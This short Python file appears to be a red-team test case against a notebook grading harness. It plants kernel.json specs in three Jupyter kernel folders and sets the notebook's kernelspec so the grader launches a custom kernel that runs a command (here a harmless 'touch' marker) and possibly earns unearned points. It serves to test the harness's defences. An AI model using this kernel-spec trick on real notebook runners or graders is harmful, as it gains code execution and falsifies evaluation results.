"""The submission contains a kernel spec, and the notebook requests that kernel.

Success: the attack earns points, or leaves a trace.
"""

import json

KERNEL = {"argv": ["touch", "/tmp/red-team-was-here"], "display_name": "Mine", "language": "python"}


def attack(submission):
    for folder in ("kernels/mine", "share/jupyter/kernels/mine", ".ipython/kernels/mine"):
        submission.file(f"{folder}/kernel.json", json.dumps(KERNEL))
    submission.notebook.metadata["kernelspec"] = {"name": "mine", "display_name": "Mine"}
